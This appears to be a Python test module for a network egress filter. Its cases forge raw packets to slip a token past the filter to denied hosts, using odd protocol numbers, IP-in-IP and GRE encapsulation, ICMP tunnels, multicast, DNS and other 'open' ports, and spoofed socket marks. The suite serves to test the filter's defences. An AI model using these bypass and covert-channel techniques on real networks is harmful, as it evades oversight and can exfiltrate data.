"""Packets made by hand of protocols that nobody thinks of, and marks that only the router should set."""

from collections.abc import Iterator

from attack.case import Group, case
from attack.forging import NEEDS, OPEN, a_datagram_by_hand, forge
from attack.scene import Scene
from attack.world import ALLOWED, DENIED, OTHER_RESOLVER


@case(Group.PATH, control=a_datagram_by_hand, needs=NEEDS)
def a_protocol_that_is_neither_tcp_nor_udp_does_not_leave(scene: Scene) -> Iterator[str]:
    """Every protocol number, with a payload, to a denied host, to a named one and to one that is open on two ports.

    Rules written for TCP and UDP that say nothing of the rest: SCTP, DCCP, UDP-Lite, GRE, ESP, and 255, which is
    reserved. Whoever speaks one of them outside has a channel.
    """
    yield from forge(
        scene,
        f"""
        resolve("{ALLOWED.name}")
        for destination in ("{DENIED.address4}", "{ALLOWED.address4}", "{OPEN}", "{DENIED.address6}", "{ALLOWED.address6}"):
            for protocol in range(256):
                if protocol not in (TCP, UDP):
                    # The first bytes look like ports that are allowed.
                    made = struct.pack("!HHI", 40000, 7, 0) + TOKEN
                    wire.send(ip(wire.own(destination), destination, protocol, made))
        """,
        to=(DENIED.address4, DENIED.address6),
    )


@case(Group.PATH, control=a_datagram_by_hand, needs=NEEDS)
def a_packet_inside_a_packet_does_not_leave(scene: Scene) -> Iterator[str]:
    """IP in IP, 6in4, GRE, IP in IPv6: a decapsulating router on the way forwards what nobody judged.

    Hosts that decapsulate for anybody are many: CERT/CC VU#636397 (IP in IP, CVE-2020-10136).
    """
    yield from forge(
        scene,
        f"""
        inner4 = ipv4(wire.address4, "{DENIED.address4}", UDP,
                      udp_datagram(wire.address4, "{DENIED.address4}", (new_port(), 7), TOKEN))
        inner6 = ipv6(wire.address6, "{DENIED.address6}", UDP,
                      udp_datagram(wire.address6, "{DENIED.address6}", (new_port(), 7), TOKEN))
        for destination in ("{ALLOWED.address4}", "{OPEN}", "{ALLOWED.address6}", wire.gateway):
            for protocol, made in ((4, inner4), (41, inner6), (47, struct.pack("!HH", 0, 0x0800) + inner4),
                                   (47, struct.pack("!HH", 0, 0x86DD) + inner6), (94, inner4), (137, inner4)):
                wire.send(ip(wire.own(destination), destination, protocol, made))
        """,
        to=(DENIED.address4, DENIED.address6),
    )


@case(Group.PATH, control=a_datagram_by_hand, needs=NEEDS)
def icmp_of_every_type_carries_nothing(scene: Scene) -> Iterator[str]:
    """Echoes, timestamps, answers that nobody asked for, and types without a meaning, as a channel.

    ICMP tunnels (Loki, Phrack 49, 1996; ptunnel, icmptunnel) live on filters that keep ping for convenience.
    """
    yield from forge(
        scene,
        f"""
        resolve("{ALLOWED.name}")
        for kind in range(256):
            for destination in ("{DENIED.address4}", "{ALLOWED.address4}", "{OPEN}"):
                wire.send(ipv4(wire.address4, destination, ICMP, icmp(kind, 0, struct.pack("!HH", kind, 1), TOKEN * 8)))
            for destination in ("{DENIED.address6}", "{ALLOWED.address6}"):
                wire.send(ipv6(wire.address6, destination, ICMP6,
                               icmp6(wire.address6, destination, kind, struct.pack("!HH", kind, 1), TOKEN * 8)))
        """,
        to=(DENIED.address4, DENIED.address6),
    )


@case(Group.PATH, control=a_datagram_by_hand, needs=NEEDS)
def multicast_and_broadcast_reach_nobody(scene: Scene) -> Iterator[str]:
    """IGMP, MLD, mDNS, SSDP, DHCP, router and neighbour discovery to groups: services of the network next door.

    LLMNR and mDNS names, DHCP leases and router advertisements are believed from whoever is on the link.
    """
    yield from forge(
        scene,
        """
        def group_mac(address):
            packed = ip_address(address).packed
            return b"\\x33\\x33" + packed[-4:] if len(packed) == 16 else b"\\x01\\x00\\x5e" + bytes([packed[1] & 127]) + packed[2:]
        for destination, port in (("224.0.0.1", 5353), ("224.0.0.251", 5353), ("239.255.255.250", 1900),
                                  ("255.255.255.255", 67), ("224.0.0.252", 5355)):
            mac = b"\\xff" * 6 if destination == "255.255.255.255" else group_mac(destination)
            for source in (wire.address4, "0.0.0.0"):
                made = udp_datagram(source, destination, (68, port), TOKEN)
                wire.send(ipv4(source, destination, UDP, made, ttl=255), to=mac)
                wire.send(ipv4(source, destination, 2, bytes([0x22, 0, 0, 0]) + TOKEN, options=bytes([148, 4, 0, 0])), to=mac)
        for destination, port in (("ff02::1", 5353), ("ff02::fb", 5353), ("ff0e::1", 1900), ("ff02::1:2", 547)):
            for source in (wire.address6, "fe80::77"):
                made = udp_datagram(source, destination, (546, port), TOKEN)
                wire.send(ipv6(source, destination, UDP, made, hops=255), to=group_mac(destination))
                for kind in (130, 131, 132, 133, 134, 135, 136, 137, 143):
                    made = icmp6(source, destination, kind, bytes(4), bytes(16) + TOKEN)
                    wire.send(ipv6(source, destination, ICMP6, made, hops=255), to=group_mac(destination))
        """,
        also=(scene.internet.namespaces.host,),
    )


@case(Group.PATH, control=a_datagram_by_hand, needs=NEEDS)
def port_53_is_no_way_out(scene: Scene) -> Iterator[str]:
    """Datagrams to and from ports 53, 67, 123 and 443 of denied hosts: the ports that filters leave open for somebody.

    iodine and OpenVPN on port 53 are how captive portals are left; what is not DNS has to stop as well.
    """
    yield from forge(
        scene,
        f"""
        for destination in ("{DENIED.address4}", "{DENIED.address6}", "{OTHER_RESOLVER}"):
            ends = (wire.own(destination), destination)
            for ports in ((53, 53), (new_port(), 53), (53, 40000), (68, 67), (123, 123), (443, 443), (new_port(), 443),
                          (new_port(), 853), (0, 53), (53, 0), (0, 0)):
                wire.send(ip(*ends, UDP, udp_datagram(*ends, ports, TOKEN)))
                wire.send(ip(*ends, TCP, tcp(*ends, ports, SYN, TOKEN)))
        """,
        to=(DENIED.address4, DENIED.address6, OTHER_RESOLVER),
    )


@case(Group.PATH, control=a_datagram_by_hand, needs=NEEDS)
def marks_and_classes_of_the_box_mean_nothing_outside(scene: Scene) -> Iterator[str]:
    """SO_MARK, SO_PRIORITY and type of service: what routers and proxies use among themselves to say "judged already".

    A mark that crosses from a box's namespace into the router's would be the relay's or a grant's.
    """
    yield from forge(
        scene,
        f"""
        for mark in (*range(1, 33), 0x100, 0x10000, 0x80000000, 0x80000001, 0x80000010, 0xFFFFFFFF):
            wire.mark(mark)
            for destination, port in (("{DENIED.address4}", 7), ("{DENIED.address6}", 7), (wire.gateway, 15001)):
                ends = (wire.own(destination), destination)
                for protocol, made in ((UDP, udp_datagram(*ends, (new_port(), port), TOKEN)),
                                       (TCP, tcp(*ends, (new_port(), 443), SYN, TOKEN))):
                    wire.send(ip(*ends, protocol, made))
        wire.mark(0)
        """,
        to=(DENIED.address4, DENIED.address6),
    )
